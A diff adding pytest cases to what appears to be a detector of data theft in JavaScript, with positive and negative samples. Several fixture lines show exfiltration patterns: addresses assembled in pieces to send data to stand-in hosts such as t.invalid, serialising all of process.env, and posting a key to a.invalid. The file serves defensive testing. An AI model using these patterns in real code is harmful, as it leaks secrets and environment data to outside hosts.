@@ -87,6 +87,62 @@ def test_an_element(code: str, attribute: str, address: str) -> None:
     assert told(PAGE + code) == [("element", attribute, address)]
 
 
+JOINED = {
+    "a part before the host": (
+        "i.src = '//' + btoa(x).slice(0, 9) + '.t.invalid/a'",
+        "src",
+        "//t.invalid/",
+    ),
+    "a template": ("i.src = `https://${code(x)}.t.invalid`", "src", "//t.invalid/"),
+    "the host in two": ("i.src = 'https://a.inv' + 'alid/?' + x", "src", "//a.invalid/"),
+    "a list": ("i.src = ['ht', 'tps:/', '/a.inv', 'alid/', x].join('')", "src", "//a.invalid/"),
+    "the page itself": ("location.href = '//' + x + '.t.invalid'", "location", "//t.invalid/"),
+}
+NOT_JOINED = {
+    "a host that is not constant": "i.src = 'https://' + host + '/a.png'",
+    "its end is not constant": "i.src = 'ht' + 'tps://cdn.' + domain + '/a.png'",
+    "a path": "i.src = base + '/a.png'; i.src = './' + name + '.png'",
+    "a link that people follow": "a.href = '//' + x + '.t.invalid'",
+    "no element": "x = '//' + y + '.t.invalid'",
+}
+
+
+@pytest.mark.parametrize(("code", "attribute", "address"), JOINED.values(), ids=JOINED)
+def test_an_address_in_pieces(code: str, attribute: str, address: str) -> None:
+    assert ("element", attribute, address) in told(PAGE + code)
+
+
+@pytest.mark.parametrize("code", NOT_JOINED.values(), ids=NOT_JOINED)
+def test_no_address_in_pieces(code: str) -> None:
+    assert told(PAGE + code) == []
+
+
+MADE = {
+    "JSON": "JSON.stringify(process.env)",
+    "with more": "f(JSON.stringify({ ok: g(1), env: process.env }))",
+    "a query": "new URLSearchParams(process.env).toString()",
+    "bytes": "v8.serialize({ ...process.env })",
+    "a list": "Object.entries(process.env).map(([k, v]) => k + v).join('&')",
+}
+NOT_MADE = {
+    "one variable": "JSON.stringify(process.env.HOME); JSON.stringify(process.env['X'])",
+    "beside it": "JSON.stringify(a); spawn(b, { env: process.env })",
+    "those of a prefix": "Object.entries(process.env).filter(([k]) => k.startsWith('APP_')).join()",
+    "a comment": "process.env.A // JSON.stringify(process.env)",
+    "for a child": "fork(a, { env: { ...process.env, A: JSON.stringify(b) } })",
+}
+
+
+@pytest.mark.parametrize("code", MADE.values(), ids=MADE)
+def test_a_text_of_the_environment(code: str) -> None:
+    assert told(code) == [("environment", "", "process.env")]
+
+
+@pytest.mark.parametrize("code", NOT_MADE.values(), ids=NOT_MADE)
+def test_no_text_of_the_environment(code: str) -> None:
+    assert told(code) == []
+
+
 HANDED = {
     "a member": REQUIRE + "http.post('https://a.invalid/x', key)",
     "called itself": REQUIRE + "http('https://a.invalid/x')",
